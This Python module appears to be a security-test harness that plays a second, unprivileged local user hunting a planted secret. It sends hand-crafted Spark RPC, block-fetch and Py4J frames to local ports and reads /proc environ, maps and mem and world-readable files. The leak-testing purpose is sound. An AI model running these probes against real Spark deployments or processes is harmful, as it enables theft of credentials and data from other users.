"""Another user of the machine who searches for a secret: in Spark's ports, /proc and temporary files.

The attacking process runs without rights, which only root can arrange. Without root it has our own uid: the
ports do not check the uid, and only files that others may read count.

As a program it reads the secret, and then answers each request that it reads with one line of JSON.
"""

import contextlib
import json
import os
import re
import socket
import stat
import struct
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

NOBODY = 65534
_IS_ROOT = os.geteuid() == 0
#: A port that does not speak Spark's protocol never answers a frame.
_SECONDS = 2.0
#: Spark's frames: 8 bytes of length, a type, the type's fields.
_CHUNK_REQUEST, _RPC_REQUEST, _STREAM_REQUEST = 0, 3, 6
_RPC_RESPONSE, _RPC_FAILURE = b"\x04", b"\x05"
_STREAM = b"\x07"
_BROADCASTS = 40
_REFUSED = re.compile(rb"SaslMessage|SaslException|auth", re.IGNORECASE)


@dataclass
class Loot:
    """The results of an attack."""

    ports: int = 0
    attacks: int = 0
    #: Blocks of Spark that were read, and requests that were handled as if from a trusted peer.
    blocks: int = 0
    answered: int = 0
    files: int = 0
    #: Places that contained the secret.
    found: list[str] = field(default_factory=list)

    def add(self, other: "Loot") -> None:
        """Add the results of another attack."""
        self.ports = max(self.ports, other.ports)
        self.attacks += other.attacks
        self.blocks += other.blocks
        self.answered += other.answered
        self.files += other.files
        self.found = sorted({*self.found, *other.found})


class Stranger:
    """A process of another user; a context manager."""

    def __init__(self, word: str) -> None:
        command = [sys.executable, "-S", str(Path(__file__))]
        self._process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert self._process.stdin is not None
        # Not in the command line, which every user can read.
        self._process.stdin.write(word + "\n")

    def __enter__(self) -> "Stranger":
        return self

    def __exit__(self, *_: object) -> None:
        self._process.communicate()

    def attack(self, processes: Iterable[int], folders: Iterable[Path] = ()) -> Loot:
        """Attack processes, and the files in ``folders``."""
        held = list(processes)
        asked = {"ports": _ports(held), "processes": held, "folders": [str(one) for one in folders]}
        assert self._process.stdin is not None and self._process.stdout is not None
        self._process.stdin.write(json.dumps(asked) + "\n")
        self._process.stdin.flush()
        return Loot(**json.loads(self._process.stdout.readline()))


def family(process: int) -> Iterator[int]:
    """Yield a process and all its descendants."""
    yield process
    with contextlib.suppress(OSError):
        for thread in Path(f"/proc/{process}/task").iterdir():
            for child in (thread / "children").read_text().split():
                yield from family(int(child))


def _ports(processes: list[int]) -> list[int]:
    """Return the ports on which processes listen."""
    held = set()
    for process in processes:
        with contextlib.suppress(OSError):
            for one in Path(f"/proc/{process}/fd").iterdir():
                with contextlib.suppress(OSError):
                    held.add(str(one.readlink()))
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and f"socket:[{fields[9]}]" in held:
                found.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(found)


# -- in the other user's process -----------------------------------------------------------------------------


def _serve() -> None:
    word = sys.stdin.readline().strip().encode()
    if _IS_ROOT:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    for line in sys.stdin:
        asked = json.loads(line)
        loot = Loot(ports=len(asked["ports"]))
        # In parallel, because most of the time is spent on ports that never answer.
        attacks = [(port, name, word) for port in asked["ports"] for name in _ATTACKS]
        with ThreadPoolExecutor(len(attacks) or 1) as pool:
            for one in pool.map(_attack, *zip(*attacks, strict=True)):
                loot.add(one)
        for process in asked["processes"]:
            _read(Path(f"/proc/{process}"), ("cmdline", "environ", "maps", "mem"), word, loot)
        for folder in asked["folders"]:
            for place, _, names in os.walk(folder):
                _read(Path(place), names, word, loot)
        print(json.dumps(vars(loot)), flush=True)


def _attack(port: int, name: str, word: bytes) -> Loot:
    loot = Loot(attacks=1)
    with contextlib.suppress(OSError, struct.error), _Line(port) as line:
        answers = _ATTACKS[name](line)
        if name == "blocks":
            loot.blocks = len(answers)
        elif name == "request":
            # Any answer but a refusal was read as if it came from one of Spark's own processes.
            loot.answered = int(not _REFUSED.search(answers[0]))
        elif name == "file":
            loot.blocks = int(answers[0][:1] == _STREAM)
        if any(word in one for one in answers):
            loot.found.append(f"port, {name}")
    return loot


def _fetch_blocks(line: "_Line") -> list[bytes]:
    """Request everything that Spark may have broadcast."""
    found = []
    for number in range(_BROADCASTS):
        names = [f"broadcast_{number}_piece0"]
        message = b"\0" + _text("app") + _text("driver") + struct.pack(">i", len(names))
        message += b"".join(map(_text, names))
        answer = line.ask(_RPC_REQUEST, struct.pack(">qi", number, len(message)) + message)[0]
        if answer[:1] == _RPC_FAILURE and _REFUSED.search(answer):
            break
        if answer[:1] != _RPC_RESPONSE:
            continue
        (stream,) = struct.unpack(">q", answer[14:22])
        found += line.ask(_CHUNK_REQUEST, struct.pack(">qi", stream, 0))
    return found


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


class _Line:
    """A connection to one of Spark's ports."""

    def __init__(self, port: int) -> None:
        # Not through create_connection, which imports files that only our user may read.
        self._socket = socket.socket()
        self._socket.settimeout(_SECONDS)
        self._socket.connect(("127.0.0.1", port))

    def __enter__(self) -> "_Line":
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def ask(self, kind: int, content: bytes) -> list[bytes]:
        """Send a frame, and return the answer from its type on."""
        self._socket.sendall(struct.pack(">qb", 9 + len(content), kind) + content)
        (length,) = struct.unpack(">q", self._exactly(8))
        return [self._exactly(min(length - 8, 1 << 26))]

    def say(self, content: bytes) -> list[bytes]:
        """Send bytes, and return the answer."""
        self._socket.sendall(content)
        return [self._socket.recv(1 << 16)]

    def _exactly(self, count: int) -> bytes:
        found = b""
        while len(found) < count:
            part = self._socket.recv(count - len(found))
            if not part:
                raise OSError("it hung up")
            found += part
        return found


def _read(folder: Path, names: Any, word: bytes, loot: Loot) -> None:
    for name in names:
        loot.attacks += 1
        with contextlib.suppress(OSError, ValueError):
            path = folder / name
            if not _IS_ROOT and not _is_for_all(path):
                continue
            with path.open("rb") as file:
                content = file.read(1 << 24)
            loot.files += 1
            if word in content:
                loot.found.append(str(path))


def _is_for_all(path: Path) -> bool:
    if path.name in ("environ", "maps", "mem") and path.parts[1] == "proc":
        return False
    folders = (stat.S_IMODE(one.stat().st_mode) & stat.S_IXOTH for one in path.parents)
    return bool(stat.S_IMODE(path.stat().st_mode) & stat.S_IROTH) and all(folders)


_ATTACKS: dict[str, Callable[[_Line], list[bytes]]] = {
    "blocks": _fetch_blocks,
    "request": lambda line: line.ask(_RPC_REQUEST, struct.pack(">qi", 1, 4) + b"\0\0\0\0"),
    "file": lambda line: line.ask(_STREAM_REQUEST, _text("/files/bwtui.zip")),
    "py4j": lambda line: line.say(b"c\nt\nf\ne\n"),
    "worker": lambda line: line.say(struct.pack(">i", 5) + b"wrong"),
}


if __name__ == "__main__":
    _serve()
